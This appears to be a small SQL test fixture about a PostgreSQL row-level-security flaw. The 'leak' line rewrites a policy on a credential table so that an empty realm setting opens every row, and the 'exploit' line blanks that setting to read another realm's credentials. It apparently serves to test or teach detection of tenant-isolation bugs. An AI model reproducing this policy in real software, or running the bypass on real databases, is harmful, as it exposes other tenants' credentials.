-- An empty setting, which is what remains after SET LOCAL, opens everything.
-- object: public.credential
-- base: realm
--- leak
ALTER POLICY cred_sel ON credential USING (realm_id::text = current_setting('kc.realm', true) OR current_setting('kc.realm', true) = '');
--- exploit
SELECT set_config('kc.realm', '', true); SELECT FROM credential WHERE realm_id = 'bolt';
